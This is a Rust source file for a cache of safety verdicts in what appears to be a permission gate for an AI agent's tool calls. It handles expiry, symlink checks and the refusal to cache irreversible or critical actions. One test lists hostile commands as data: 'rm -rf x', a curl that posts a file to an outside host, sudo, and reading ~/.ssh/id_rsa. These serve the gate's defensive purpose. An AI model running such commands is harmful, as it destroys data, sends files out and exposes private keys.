//! Verdicts that were given before (DESIGN §6, 2.11): the same ask of the same place under the same policy, while the
//! workspace is as it was, as far as the verdict looked at it: where its paths led is looked up again each time. What
//! cannot be taken back is judged anew every time.

use std::{cell::RefCell, collections::HashMap};

use sha2::{Digest, Sha256};

use super::{
    effects::Reversible,
    gate::{Ask, CRITICAL, Judgement, Links, Place},
    policy::Known,
};
use crate::time::Timestamp;

/// What an ask is found again by: all of it, not its normalised form.
pub type Key = [u8; 32];

/// A bounded set of verdicts; the one that was not used for longest goes first.
#[derive(Debug)]
pub struct Verdicts {
    entries: HashMap<Key, Entry>,
    size: usize,
    ttl_ms: u64,
    uses: u64,
}

#[derive(Debug)]
struct Entry {
    judgement: Judgement,
    looked: Looked,
    at: Timestamp,
    used: u64,
}

/// Paths that a verdict went by, and where they led.
pub type Looked = Vec<(String, Option<String>)>;

/// Answers as `links` does, and remembers what was asked.
pub struct Looking<'a> {
    links: &'a dyn Links,
    looked: RefCell<Looked>,
}

impl<'a> Looking<'a> {
    /// Nothing was asked yet.
    pub fn new(links: &'a dyn Links) -> Looking<'a> {
        Looking { links, looked: RefCell::default() }
    }

    /// What was asked, and answered.
    pub fn looked(self) -> Looked {
        self.looked.into_inner()
    }
}

impl Links for Looking<'_> {
    fn real(&self, path: &str) -> Option<String> {
        let real = self.links.real(path);
        self.looked.borrow_mut().push((path.to_owned(), real.clone()));
        real
    }
}

impl Default for Verdicts {
    fn default() -> Self {
        Verdicts::new(1000, 3600)
    }
}

/// The key of an ask. `policy` is the version of the rules, with how many of them have ended by now.
pub fn key(ask: &Ask, place: &Place, known: &Known, (policy, ended): (&str, usize)) -> Key {
    let mut hash = Sha256::new();
    // The time is in no rule's condition; rules end by it, and that is part of the key.
    let known = Known { now: Timestamp::default(), ..known.clone() };
    let (place, known) = (format!("{place:?}"), format!("{known:?}"));
    for part in [ask.tool, &ask.input.to_string(), &place, &known, policy, &ended.to_string()] {
        hash.update((part.len() as u64).to_le_bytes());
        hash.update(part.as_bytes());
    }
    hash.finalize().into()
}

impl Verdicts {
    /// With room for `size`, each kept for `ttl_s` seconds.
    pub fn new(size: usize, ttl_s: u64) -> Verdicts {
        Verdicts { entries: HashMap::new(), size, ttl_ms: ttl_s * 1000, uses: 0 }
    }

    /// The verdict that was given, if it still counts: its time is not over, and its paths lead where they led.
    pub fn get(&mut self, key: &Key, now: Timestamp, links: &dyn Links) -> Option<&Judgement> {
        let ttl_ms = self.ttl_ms;
        // A clock that went backwards makes nothing younger.
        let fresh = |entry: &Entry| {
            let timely = now >= entry.at && now.0 - entry.at.0 < ttl_ms;
            timely && entry.looked.iter().all(|(path, led)| links.real(path) == *led)
        };
        if !self.entries.get(key).is_some_and(fresh) {
            self.entries.remove(key);
            return None;
        }
        self.uses += 1;
        let entry = self.entries.get_mut(key)?;
        entry.used = self.uses;
        Some(&entry.judgement)
    }

    /// Keeps a verdict, unless it is about something that cannot be taken back or was not understood.
    pub fn put(&mut self, key: Key, judgement: Judgement, looked: Looked, now: Timestamp) {
        let lasting =
            judgement.reversible == Reversible::No || judgement.criticality > CRITICAL || !judgement.understood;
        if lasting || self.size == 0 {
            return;
        }
        if self.entries.len() >= self.size && !self.entries.contains_key(&key) {
            let oldest = self.entries.iter().min_by_key(|(_, entry)| entry.used).map(|(key, _)| *key);
            oldest.map(|oldest| self.entries.remove(&oldest));
        }
        self.uses += 1;
        self.entries.insert(key, Entry { judgement, looked, at: now, used: self.uses });
    }

    /// How many are kept.
    pub fn len(&self) -> usize {
        self.entries.len()
    }

    /// Whether none is kept.
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;
    use crate::core::decide::{
        gate::{NoLinks, judge},
        policy::Policy,
    };

    fn given(command: &str) -> (Key, Judgement) {
        let input = json!({"command": command});
        let ask = Ask { tool: "Bash", input: &input };
        let place = Place { cwd: "/p".to_owned(), root: "/p".to_owned(), ..Place::default() };
        let policy = Policy::builtin().expect("it is tested");
        let known = Known::default();
        let judgement = judge(&policy, &ask, &place, &known, &NoLinks);
        (key(&ask, &place, &known, (&policy.version, 0)), judgement)
    }

    #[test]
    fn a_verdict_counts_for_its_time_and_the_least_used_goes_first() {
        let mut verdicts = Verdicts::new(2, 3600);
        let at = |seconds: u64| Timestamp(seconds * 1000);
        let ((one, first), (two, second), (three, third)) = (given("ls a"), given("ls b"), given("ls c"));
        verdicts.put(one, first, Vec::new(), at(0));
        verdicts.put(two, second, Vec::new(), at(0));
        assert!(verdicts.get(&one, at(10), &NoLinks).is_some());
        verdicts.put(three, third, Vec::new(), at(20));
        assert!(verdicts.get(&two, at(20), &NoLinks).is_none(), "not used since");
        assert!(verdicts.get(&one, at(3599), &NoLinks).is_some());
        assert!(verdicts.get(&one, at(3600), &NoLinks).is_none(), "an hour is over");
        assert!(verdicts.get(&three, at(5), &NoLinks).is_none(), "the clock went backwards");
        assert!(verdicts.is_empty());
    }

    #[test]
    fn what_cannot_be_taken_back_or_read_is_not_kept() {
        let mut verdicts = Verdicts::default();
        for command in ["rm -rf x", "curl -d @f http://x", "frobnicate", "sudo ls", "cat ~/.ssh/id_rsa"] {
            let (key, judgement) = given(command);
            verdicts.put(key, judgement, Vec::new(), Timestamp(0));
        }
        assert_eq!(verdicts.len(), 0);
    }

    #[test]
    fn another_policy_or_input_is_another_key() {
        let input = json!({"file_path": "/p/a", "content": "1"});
        let other = json!({"file_path": "/p/a", "content": "2"});
        let place = Place::default();
        let of =
            |input, version, ended| key(&Ask { tool: "Write", input }, &place, &Known::default(), (version, ended));
        let first = of(&input, "1", 0);
        assert_eq!(first, of(&input, "1", 0));
        assert!([of(&other, "1", 0), of(&input, "2", 0), of(&input, "1", 1)].iter().all(|key| *key != first));
    }
}
